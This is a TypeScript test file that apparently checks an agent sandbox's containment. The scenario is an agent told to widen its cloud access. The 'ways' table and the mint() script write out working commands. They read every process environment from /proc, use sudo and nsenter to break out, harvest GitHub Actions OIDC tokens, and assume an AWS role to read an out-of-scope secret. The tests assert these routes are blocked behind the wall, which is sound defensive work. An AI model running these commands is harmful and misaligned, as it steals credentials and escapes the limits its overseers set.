import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { defaultWorld } from '../../sandbox/index.ts';
import { type Machine, noMachine } from '../machine/machine.ts';
import { makeMachine, runAction, sandboxOf } from './world.ts';

const why = noMachine();
let machine: Machine;

/** Where an agent that was told to get a wider lease looks for the means: each prints what it finds. */
const ways: Readonly<Record<string, string>> = {
  'the environment of all processes': "cat /proc/[0-9]*/environ | tr '\\0' '\\n'",
  'the environment of all processes, by sudo': "sudo -n cat /proc/[0-9]*/environ | tr '\\0' '\\n'",
  'the environment of its ancestors':
    'p=$PPID; while [ "$p" -gt 0 ]; do tr "\\0" "\\n" </proc/$p/environ; p=$(awk \'{print $4}\' /proc/$p/stat); done',
  'a shell outside, by sudo': `sudo -n nsenter -t 1 -a sh -c "cat /proc/[0-9]*/environ" | tr '\\0' '\\n'`,
  'the roots of all processes, by sudo':
    "sudo -n sh -c 'cat /proc/[0-9]*/root/proc/[0-9]*/environ' | tr '\\0' '\\n'",
};

/** With what a way finds, it asks for an identity, assumes the role without a policy, and reads what the scope leaves out. */
function mint(find: string, { sts, s3 }: { readonly sts: string; readonly s3: string }): string {
  return `
find() { ${find}; }
found=$(find 2>/dev/null || true)
value() { printf '%s\\n' "$found" | sed -n "s/^$1=//p" | sort -u; }
of() { printf '%s' "$xml" | tr -d '\\n' | sed -n "s:.*<$1>\\(.*\\)</$1>.*:\\1:p"; }
for url in $(value ACTIONS_ID_TOKEN_REQUEST_URL); do for token in $(value ACTIONS_ID_TOKEN_REQUEST_TOKEN); do
jwt=$(curl -s -m 5 -H "Authorization: bearer $token" "$url&audience=sts.amazonaws.com" | sed -n 's/.*"value" *: *"\\([^"]*\\)".*/\\1/p' || true)
[ -n "$jwt" ] || continue
xml=$(curl -s -m 5 '${sts}' -d Action=AssumeRoleWithWebIdentity -d Version=2011-06-15 -d RoleArn=${defaultWorld.roleArn} -d RoleSessionName=wide --data-urlencode "WebIdentityToken=$jwt")
curl -s -m 5 --aws-sigv4 aws:amz:us-east-1:s3 --user "$(of AccessKeyId):$(of SecretAccessKey)" -H 'x-amz-content-sha256: UNSIGNED-PAYLOAD' -H "x-amz-security-token: $(of SessionToken)" \\
  '${s3}/${defaultWorld.bucket}/secret/b.csv' || true
done; done
`;
}

describe.skipIf(why !== undefined)(
  `an agent that is told to get a wider lease${why === undefined ? '' : ` (${why})`}`,
  () => {
    let read: (find: string, wall: 'required' | 'off') => Promise<string>;
    let readNarrow: (key: string) => Promise<string>;

    beforeAll(async () => {
      ({ machine } = await makeMachine());
      const box = sandboxOf(machine);
      const places = { sts: box.SANDBOX_AWS_STS ?? '', s3: box.AWS_ENDPOINT_URL_S3 ?? '' };
      // The clouds and GitHub are on the internet, so the wall does not close them: here their ports are let through.
      const urls = [places.sts, places.s3, box.ACTIONS_ID_TOKEN_REQUEST_URL ?? ''];
      const ports = urls.map((url) => new URL(url).port).join('\n');
      const result = async (script: string, wall: string, deliver: string) => {
        const { log } = await runAction(machine, script, { wall, deliver, ports });
        return log.replaceAll(/^::add-mask::.*\n/gm, '');
      };
      read = (find, wall) => result(mint(find, places), wall, 'broker');
      readNarrow = (key) =>
        result(
          `curl -s -m 10 --aws-sigv4 aws:amz:us-east-1:s3 --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" -H 'x-amz-content-sha256: UNSIGNED-PAYLOAD' -H "x-amz-security-token: $AWS_SESSION_TOKEN" '${places.s3}/${defaultWorld.bucket}/${key}'`,
          'required',
          'env',
        );
    }, 600_000);
    afterAll(() => machine?.stop(), 300_000);

    test.each(Object.entries(ways))(
      'reads what the scope leaves out, without a wall: %s',
      async (_, find) => {
        expect(await read(find, 'off')).toContain('octocat,1');
      },
    );

    test.each(Object.entries(ways))('never reads it behind the wall: %s', async (_, find) => {
      const said = await read(find, 'required');
      expect(said).not.toContain('octocat,1');
      expect(said).toContain('::stop-commands::');
    });

    test('has the lease of its scope behind the wall, and no more', async () => {
      expect(await readNarrow('reports/a.csv')).toContain('visits');
      expect(await readNarrow('secret/b.csv')).toContain('AccessDenied');
    });
  },
);
